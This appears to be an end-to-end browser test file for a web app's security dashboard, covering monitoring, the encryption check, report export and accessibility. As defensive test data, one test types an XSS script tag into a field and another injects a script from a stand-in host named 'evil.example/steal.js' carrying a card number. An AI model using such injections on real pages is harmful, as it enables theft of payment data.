// @module-tag never-again
import { readFileSync } from 'node:fs'
import type { Browser, Page } from 'playwright-core'
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { SecurityReport } from '#app/features/running/security-report.ts'
import { sharedChromium } from '#test/support/chromium.ts'
import { further } from '#test/support/depth.ts'
import { shareInstance } from '#test/support/instance.ts'
import { shiftsOf, watchShifts } from '../layout-shifts.ts'
import { axeProblems, closeContext, eventually, openContext, overflowPx, toasts } from '../visitor.ts'

let browser: Browser
beforeAll(async () => {
  browser = await sharedChromium()
})
const shared = shareInstance({ RATE_LIMIT_SCALE: '1000' })

const panel = '[data-island*="/security-panel."]'
const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true })
const check = (page: Page, id: string) => page.locator(`[data-check=${id}]`)
const reportIn = async (page: Page) =>
  SecurityReport.parse(JSON.parse(await page.getByRole('textbox', { name: 'Security report' }).inputValue()))

/** The dashboard, once its script has started. */
async function started(page: Page) {
  await page.goto('/security-dashboard')
  await page.locator(`${panel}[data-started]`).waitFor()
  await eventually(() => button(page, 'Copy').isVisible()).toBe(true)
}

/** On a phone and on a desktop screen. */
async function looksRight(page: Page) {
  for (const width of [1280, 360]) {
    await page.setViewportSize({ width, height: 800 })
    expect(await overflowPx(page), `at ${width} px`).toBe(0)
  }
  expect(await axeProblems(page, 'main')).toEqual([])
}

describe('The security dashboard', () => {
  further.it('tests, watches and reports in place, by keyboard, without a shift and for everyone', async () => {
    const { url } = await shared()
    const context = await openContext(browser, url)
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const page = await context.newPage()
    await watchShifts(page)
    await started(page)
    expect(await shiftsOf(page), 'at 360 px').toEqual([])
    await looksRight(page)
    expect((await reportIn(page)).page).toEqual({ monitoring: 'inactive', encryption: 'not tested', events: [] })

    // Press two buttons in quick succession: neither press is lost.
    await button(page, 'Test Encryption').press('Enter')
    await button(page, 'Test Threat Detection').press('Enter')
    await eventually(() => toasts(page).first().textContent()).toContain('Detected 5/5 potential threats.')
    expect(await toasts(page).nth(1).textContent()).toContain('Encryption Test Successful')
    // What was stored for it is gone.
    expect(await page.evaluate(() => Object.keys(sessionStorage))).toEqual([])

    await button(page, 'Start Monitoring').press('Enter')
    const active = button(page, 'Monitoring Active')
    await active.waitFor()
    expect(await active.isDisabled()).toBe(true)
    expect(await check(page, 'monitoring').textContent()).toContain('Active, nothing found')
    await page.getByLabel('A field to test it with').fill('My boiler is off <script>alert(1)</script>')
    const found = page.locator('[data-kind=input]')
    await eventually(() => found.allTextContents()).toHaveLength(1)
    expect(await found.textContent()).toContain('Typed into ‘A field to test it with’: script tag.')
    expect(await check(page, 'monitoring').textContent()).toContain('Active, 1 found')
    const report = await reportIn(page)
    expect(report.page).toMatchObject({ monitoring: 'active', encryption: 'passed', events: [{ kind: 'input' }] })
    // The report contains nothing that was typed.
    expect(JSON.stringify(report)).not.toContain('My boiler')
    await button(page, 'Copy').click()
    await eventually(() => toasts(page).first().textContent()).toContain('Report copied.')
    expect(SecurityReport.parse(JSON.parse(await page.evaluate(() => navigator.clipboard.readText())))).toEqual(report)
    const download = page.waitForEvent('download')
    await page.getByRole('link', { name: 'Download' }).click()
    expect(SecurityReport.parse(JSON.parse(readFileSync(await (await download).path(), 'utf8'))).checks).toHaveLength(5)

    await button(page, 'Refresh Status').press('Enter')
    await page.getByText(/^Refreshed at /).waitFor()
    // It was already being monitored, and still is.
    expect(await active.isDisabled()).toBe(true)

    await page.setViewportSize({ width: 1280, height: 800 })
    await started(page)
    expect(await shiftsOf(page), 'at 1280 px').toEqual([])
  })

  it('shows what the browser refuses, and a script from elsewhere that is put in', async () => {
    const { url } = await shared()
    // The refusal is logged as a console error, which is expected here.
    const context = await browser.newContext({ baseURL: url, reducedMotion: 'reduce' })
    onTestFinished(() => closeContext(context))
    const page = await context.newPage()
    await started(page)
    await button(page, 'Start Monitoring').click()
    await button(page, 'Monitoring Active').waitFor()
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/steal.js?card=4242'
      document.body.append(script)
    })
    await eventually(() => page.locator('[data-kind=script]').allTextContents()).toHaveLength(1)
    expect(await page.locator('[data-kind=script]').textContent()).toContain('A script was added to the page: https://evil.example.')
    await eventually(() => page.locator('[data-kind=policy]').textContent()).toContain('blocked https://evil.example under script-src-elem')
    expect(JSON.stringify(await reportIn(page))).not.toContain('4242')
  })

  further.it('says that encryption failed where the browser keeps nothing', async () => {
    const { url } = await shared()
    const context = await openContext(browser, url)
    await context.addInitScript(() => Object.defineProperty(window, 'indexedDB', { value: undefined }))
    const page = await context.newPage()
    await started(page)
    await button(page, 'Test Encryption').click()
    await eventually(() => toasts(page).first().textContent()).toContain('Encryption Test Failed')
    expect(await toasts(page).first().textContent()).toContain('Failed to encrypt/decrypt test data.')
    expect((await reportIn(page)).page?.encryption).toBe('failed')
  })

  further.it('goes on where its buttons were pressed before any script ran', async () => {
    const { url } = await shared()
    const page = await (await openContext(browser, url)).newPage()
    await page.route('**/islands/**', (route) => (page.url().includes('#result') ? route.continue() : route.abort()))
    await page.goto('/security-dashboard')
    await button(page, 'Start Monitoring').click()
    await page.waitForURL('**/security-dashboard#result')
    await button(page, 'Monitoring Active').waitFor()
  })
})
